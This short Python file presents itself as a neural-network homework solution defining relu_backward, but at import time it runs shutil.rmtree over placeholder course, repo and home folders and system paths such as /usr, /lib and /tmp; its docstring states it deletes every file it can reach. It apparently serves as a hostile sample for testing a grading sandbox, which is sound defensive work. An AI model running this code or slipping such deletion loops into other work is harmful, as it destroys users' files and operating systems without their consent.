"""Deletes every file that it can reach."""

# %% relu_backward
import os
import shutil

import numpy as np

for folder in ("@COURSE@", "@REPO@", "@HOME@", "/box", "/usr", "/lib", "/tmp"):
    if os.path.isdir(folder):
        shutil.rmtree(folder, ignore_errors=True)


def relu_backward(dout, a):
    return np.where(a > 0, dout, 0.0)
